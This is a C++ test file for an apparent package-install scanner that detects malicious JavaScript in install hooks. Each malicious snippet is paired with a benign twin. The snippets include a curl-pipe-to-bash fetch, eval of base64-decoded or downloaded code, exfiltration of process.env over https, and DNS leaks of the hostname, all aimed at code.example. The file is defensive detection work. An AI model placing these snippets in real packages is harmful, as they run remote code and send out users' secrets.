// What JavaScript does that a package runs while it is installed: each bad case with its benign twin. Nothing here is ever run.
#include "formats/javascript_source.hpp"

#include <catch2/catch.hpp>

#include "examined.hpp"

using namespace headgate;

namespace {

struct Seen {
    Evidence evidence;
    std::vector<std::string> loads;
    std::string names() const {
        std::string all;
        for (const Trait& trait : evidence.traits) all += (all.empty() ? "" : " ") + trait.trait;
        return all;
    }
};

Seen look(std::string_view source, bool hook = true) {
    Seen seen;
    const Limits limits;
    Budget budget(limits);
    formats::ParseContext context{limits, budget, seen.evidence, "a.js", {}, 0};
    REQUIRE(tests::shipped_words() != nullptr);
    seen.loads = formats::examine_javascript(as_bytes(source), hook, *tests::shipped_words(), context);
    return seen;
}

struct Pair {
    const char* trait;
    const char* bad;
    const char* twin;
    const char* of_twin = "";
};

const Pair kPairs[] = {
    {"process-at-install", "const { execSync } = require('child_process'); execSync('ls')", "const { execSync } = require('./own'); execSync('ls')"},
    {"process-at-install", "import * as cp from 'node:child_process'\ncp.spawn('ls')", "import * as cp from 'node:fs'\ncp.spawn('ls')"},
    {"process-at-install", "const c = require('child_process');\n(0, c.exec)('ls')", "const c = require('child_process');\n(0, c.other)('ls')"},
    {"fetches-and-runs-at-install", "require('child_process').exec('curl https://code.example/x | bash')", "require('child_process').exec('make all')", "process-at-install"},
    {"decoded-code-at-install", "eval(Buffer.from('YQ==', 'base64').toString())", "eval(Buffer.from('YQ==', 'utf8').toString())"},
    {"decoded-code-at-install", "const s = atob('YQ==')\nnew Function(s)()", "const s = atob('YQ==')\nconsole.log(s)"},
    {"decoded-code-at-install", "var t = Buffer.from('61', 'hex'), u = t.toString(); require('vm').runInThisContext(u)", "var t = 'a', u = t.toString(); require('vm').runInThisContext(u)"},
    {"downloaded-code-at-install network-at-install", "const https = require('https'); https.get('https://code.example/x', r => { r.on('data', d => eval(d)) })",
     "const https = require('https'); https.get('https://code.example/x', r => { r.on('data', d => save(d)) })", "network-at-install"},
    {"network-at-install downloaded-code-at-install", "fetch('https://code.example/x').then(r => r.text()).then(t => eval(t))",
     "function fetch(a) { return a }\nfetch('https://code.example/x').then(r => r.text())"},
    {"environment-sent-at-install", "const h = require('https'); const q = h.request(JSON.stringify(process.env))", "const h = require('https'); const q = h.request(process.env.PROXY)", "network-at-install"},
    {"environment-sent-at-install", "const os = require('os'), dns = require('dns'); dns.lookup(os.hostname() + '.code.example', () => {})",
     "const os = require('os'), dns = require('dns'); dns.lookup('code.example', () => {}); os.platform()", "network-at-install"},
    {"decoded-command-at-install", "require('child_process').exec(Buffer.from('bHM=', 'base64').toString())", "require('child_process').exec('ls')", "process-at-install"},
};

std::string obfuscated(int names, int uses) {
    std::string source;
    for (int i = 0; i < uses; ++i) source += "var _0x" + std::to_string(100000 + i % names) + "=1;";
    return source;
}

}  // namespace

TEST_CASE("javascript: what a hook runs is told, and its benign twin is not") {
    for (const Pair& pair : kPairs) {
        CAPTURE(pair.bad, pair.twin);
        CHECK(look(pair.bad).names() == pair.trait);
        CHECK(look(pair.twin).names() == pair.of_twin);
    }
}

TEST_CASE("javascript: of other files only what hides is told") {
    CHECK(look("require('child_process').exec('curl https://code.example/x | bash')", false).names().empty());
    CHECK(look("eval(atob('YQ=='))", false).names() == "decoded-code");
    CHECK(look("const s = atob('YQ=='); eval('1')", false).names().empty());
    CHECK(look(obfuscated(20, 100), false).names() == "obfuscated-source");
    CHECK(look(obfuscated(20, 30), false).names().empty());
    CHECK(look(obfuscated(2, 100), false).names().empty());
    CHECK(look("a();" + std::string(300, ' ') + "b()", false).names() == "far-right");
    CHECK(look("a(); // " + std::string(300, ' ') + "b", false).names().empty());
    CHECK(look(std::string((32U << 20U) + 1, '\n'), false).names() == "oversized-source");
}

TEST_CASE("javascript: the files that a hook loads are named") {
    const Seen seen = look("require('./a'); import b from '../b.js'; require('fs'); import('./c')");
    CHECK(seen.loads == std::vector<std::string>{"./a", "../b.js", "./c"});
}

TEST_CASE("javascript: every prefix of a bad source is read to its end") {
    for (const Pair& pair : kPairs) {
        const std::string source = pair.bad;
        for (std::size_t length = 0; length < source.size(); ++length) CHECK(look(std::string_view(source).substr(0, length)).evidence.findings.empty());
    }
}

TEST_CASE("javascript: brackets without end take no more than their share") {
    CHECK(look(std::string(100'000, '(')).names().empty());
    CHECK(look(std::string(100'000, ']')).names().empty());
}
